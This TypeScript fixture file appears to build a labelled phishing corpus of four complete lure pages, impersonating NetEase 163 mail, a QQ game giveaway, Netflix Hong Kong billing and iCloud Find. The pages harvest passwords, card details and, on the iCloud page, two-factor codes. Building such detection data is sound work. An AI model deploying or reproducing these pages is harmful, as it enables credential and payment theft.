import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, baseCss, fontTC, fontSC, mark, cardFields, cardFormatJs, luhnJs, footer, b64, hexEsc, xorB64 } from '../parts/yq-kit.js';
import { jsRoute, jsonRoute, pngRoute, cssRoute } from '../parts/e-bin.js';

export const entries: Entry[] = [
  {
    id: 'yq-163-mail-shared-invoice-lure',
    label: 'phishing',
    kind: 'lure-link',
    url: 'https://docs-share.feishu-files.top/s/Hx82kQ',
    body: doc({
      title: '共享文件：2024年4月对账单及发票.pdf',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#f3f5f8') +
        `.c{max-width:520px;margin:12vh auto;background:#fff;border-radius:10px;padding:30px;text-align:center;box-shadow:0 4px 16px rgba(0,0,0,.06)}
.f{display:flex;gap:14px;align-items:center;border:1px solid #eee;border-radius:8px;padding:14px;text-align:left;margin:20px 0}
.f .ic{width:48px;height:56px;background:#e64340;color:#fff;font-weight:700;display:flex;align-items:center;justify-content:center;border-radius:4px}
.go{background:#3370ff;color:#fff;padding:12px 40px;border-radius:6px;font-size:15px;display:inline-block}`,
      body: `<div class="c">
<h3 style="margin:0">王秀兰 与你共享了 1 个文件</h3>
<p class="hint">文件已加密，请使用企业邮箱验证身份后查看</p>
<div class="f"><div class="ic">PDF</div><div><b>2024年4月对账单及发票.pdf</b><br><span class="hint">312 KB · 有效期至 2024-05-10</span></div></div>
<a class="go" href="https://mail163-verify.doc-view.top/login.html?f=Hx82kQ">使用 163/126 邮箱验证查看</a>
<p class="hint" style="margin-top:18px">也支持企业邮箱 · Outlook · QQ邮箱</p>
</div>`,
    }),
    routes: {
      'mail163-verify.doc-view.top/login.html': htmlRoute(
        doc({
          title: '网易免费邮箱 - 你的专业电子邮局',
          lang: 'zh-CN',
          css:
            baseCss(fontSC, '#fff') +
            `.w{display:flex;min-height:100vh}.pic{flex:1;background:linear-gradient(135deg,#c7d9f5,#e9f0fb)}
.pn{flex:0 0 420px;padding:80px 50px}.go{background:#2c6dd6;color:#fff;width:100%;height:44px}
.tab{display:flex;gap:20px;margin-bottom:18px}.tab span.on{color:#2c6dd6;border-bottom:2px solid #2c6dd6}`,
          body: `<div class="w"><div class="pic"></div><form class="pn" method="post" action="/mail.php">
${mark('网易邮箱', '#c33', { shape: 'circle', w: 130 })}
<div class="tab" style="margin-top:24px"><span class="on">邮箱帐号登录</span><span>扫码登录</span></div>
<div class="field"><input name="email" placeholder="邮箱帐号或手机号码" required></div>
<div class="field"><input name="pass" type="password" placeholder="输入密码" required></div>
<input type="hidden" name="f" value="Hx82kQ">
<button class="btn go">登　录</button>
<p class="hint">登录即表示同意《网易邮箱服务条款》</p></form></div>`,
        }),
      ),
      'mail163-verify.doc-view.top/mail.php': redirectRoute(302, 'https://mail.163.com/'),
    },
  },
  {
    id: 'yq-qq-game-skin-giveaway-login',
    label: 'phishing',
    kind: 'game-kit',
    url: 'https://wzry-huodong.qq-lq.com/act/2024/skin/',
    body: doc({
      title: '王者荣耀 - 周年庆免费领皮肤',
      lang: 'zh-CN',
      css:
        baseCss(fontSC, '#0b1531', '#fff') +
        `.kv{height:260px;background:radial-gradient(circle at 50% 40%,#3d63d6,#0b1531);display:flex;align-items:center;justify-content:center;flex-direction:column}
.kv h1{font-size:30px;margin:0;color:#ffd86b;text-shadow:0 2px 8px #000}
.list{display:grid;grid-template-columns:repeat(3,1fr);gap:10px;padding:14px}
.sk{background:#17254f;border:1px solid #2b4189;border-radius:6px;padding:8px;text-align:center;font-size:12px}
.sk .p{height:70px;background:linear-gradient(#2b4189,#17254f);border-radius:4px;margin-bottom:6px}
.go{background:linear-gradient(#ffd86b,#f0a500);color:#5a3600;width:90%;height:48px;border-radius:24px;font-size:17px;display:block;margin:10px auto}
.mask{position:fixed;inset:0;background:rgba(0,0,0,.6);display:none;align-items:center;justify-content:center}
.ql{width:340px;background:#fff;color:#333;border-radius:6px;padding:22px}
.ql .go2{background:#12b7f5;color:#fff;width:100%;height:40px}`,
      body: `<div class="kv"><h1>周年庆 · 全皮肤免费领</h1><p>活动时间：即日起至 5 月 31 日</p></div>
<div class="list"><div class="sk"><div class="p"></div>李白·千年之狐</div><div class="sk"><div class="p"></div>貂蝉·仲夏夜之梦</div><div class="sk"><div class="p"></div>韩信·白龙吟</div><div class="sk"><div class="p"></div>孙悟空·地狱火</div><div class="sk"><div class="p"></div>露娜·紫霞仙子</div><div class="sk"><div class="p"></div>典韦·黄金武士</div></div>
<button class="btn go" onclick="document.getElementById('m').style.display='flex'">QQ 登录领取</button>
<p class="hint" style="text-align:center;color:#8da">已有 1,284,662 名召唤师领取</p>
<div class="mask" id="m"><form class="ql" method="post" action="/act/2024/skin/ptlogin.php">
<div style="display:flex;justify-content:space-between;align-items:center"><b>QQ 帐号登录</b><span style="cursor:pointer" onclick="document.getElementById('m').style.display='none'">✕</span></div>
<p class="hint">授权 王者荣耀 获取你的昵称、头像</p>
<div class="field"><input name="u" placeholder="QQ号码/手机/邮箱" required></div>
<div class="field"><input name="p" type="password" placeholder="密码" required></div>
<div class="field"><select name="area"><option>微信区</option><option selected>QQ区</option></select></div>
<button class="btn go2">授权并登录</button></form></div>`,
    }),
    routes: { 'wzry-huodong.qq-lq.com/act/2024/skin/ptlogin.php': redirectRoute(302, 'https://pvp.qq.com/') },
  },
  {
    id: 'yq-netflix-hk-payment-failed',
    label: 'phishing',
    kind: 'streaming-kit',
    url: 'https://netflix-hk.billing-update.net/hk-zh/account/payment',
    body: doc({
      title: 'Netflix',
      css:
        baseCss(`"Netflix Sans","Helvetica Neue",${fontTC}`, '#000', '#fff') +
        `.hd{padding:20px 40px}.w{max-width:460px;margin:10px auto 60px;background:rgba(0,0,0,.75);padding:40px 50px;border-radius:4px;border:1px solid #222}
.w .field label{color:#aaa}.w .field input{background:#333;border:0;color:#fff}
.go{background:#e50914;color:#fff;width:100%;height:48px;font-size:16px}
.al{background:#e87c03;color:#fff;padding:12px;border-radius:4px;font-size:13px;margin-bottom:18px}`,
      body: `<div class="hd"><svg width="110" height="30"><text x="0" y="25" fill="#e50914" font-size="30" font-weight="900" font-family="Arial Black,Arial">NETFLIX</text></svg></div>
<form class="w" method="post" action="/hk-zh/account/update.php">
<h2 style="margin-top:0">更新付款資料</h2>
<div class="al">我們無法向你的付款方式收取下一個計費週期的費用。請更新你的付款資料，以免會籍被暫停。</div>
<div class="field"><label>電郵地址</label><input name="email" type="email" required></div>
<div class="field"><label>密碼</label><input name="pwd" type="password" required></div>
${cardFields('tc')}
<div class="field"><label>帳單地址</label><input name="addr"></div>
<button class="btn go">更新</button>
<p class="hint" style="color:#777">每月計劃：標準 HK$93 ｜ 有疑問？請致電 800 931 127</p>
</form><script>${cardFormatJs}</script>`,
    }),
    routes: { 'netflix-hk.billing-update.net/hk-zh/account/update.php': redirectRoute(302, 'https://www.netflix.com/hk-zh/') },
  },
  {
    id: 'yq-icloud-find-iphone-located-cn',
    label: 'phishing',
    kind: 'cloud-kit',
    url: 'https://icloud-com.find-iphone.cn/zh-cn/find/?imei=35xxxxxx',
    body: doc({
      title: 'iCloud - 查找',
      lang: 'zh-CN',
      css:
        baseCss(`-apple-system,"SF Pro SC",${fontSC}`, '#f5f5f7') +
        `.top{height:44px;background:rgba(255,255,255,.8);border-bottom:1px solid #ddd;display:flex;align-items:center;justify-content:center;font-weight:600}
.map{height:210px;background:repeating-linear-gradient(45deg,#e3efe3 0 20px,#dceadb 20px 40px);position:relative}
.map i{position:absolute;left:50%;top:45%;width:18px;height:18px;background:#34c759;border:3px solid #fff;border-radius:50%;box-shadow:0 0 0 8px rgba(52,199,89,.25)}
.pn{max-width:380px;margin:-30px auto 0;background:#fff;border-radius:14px;padding:24px;position:relative;box-shadow:0 10px 30px rgba(0,0,0,.1)}
.go{background:#0071e3;color:#fff;width:100%;height:44px;border-radius:10px}`,
      body: `<div class="top">iCloud</div>
<div class="map"><i></i></div>
<div class="pn"><h3 style="margin:0 0 6px">你丢失的 iPhone 已被找到</h3>
<p class="hint">iPhone 14 Pro · 最后定位于 今天 10:42 · 广东省广州市天河区</p>
<p style="font-size:13px">请使用与该设备关联的 Apple ID 登录以查看实时位置。</p>
<form id="af"><div class="field"><input name="appleid" placeholder="Apple ID" required></div>
<div class="field"><input name="password" type="password" placeholder="密码" required></div>
<button class="btn go">登录</button></form>
<p class="hint" style="text-align:center">忘记了 Apple ID 或密码？</p></div>
<script>
document.getElementById('af').onsubmit=function(e){e.preventDefault();var f=this;var x=new XMLHttpRequest();x.open('POST','/zh-cn/find/api.php');x.setRequestHeader('Content-Type','application/x-www-form-urlencoded');
x.onloadend=function(){f.innerHTML='<div class="field"><label>双重认证</label><input name="code" maxlength="6" placeholder="输入发送到你设备的验证码"></div><button class="btn go">继续</button>';
f.onsubmit=function(ev){ev.preventDefault();navigator.sendBeacon('/zh-cn/find/api.php',new FormData(f));location.href='https://www.icloud.com/find';};};
x.send('u='+encodeURIComponent(f.appleid.value)+'&p='+encodeURIComponent(f.password.value));};
</script>`,
    }),
    routes: { 'icloud-com.find-iphone.cn/zh-cn/find/api.php': jsonRoute({ code: 1 }) },
  },
];
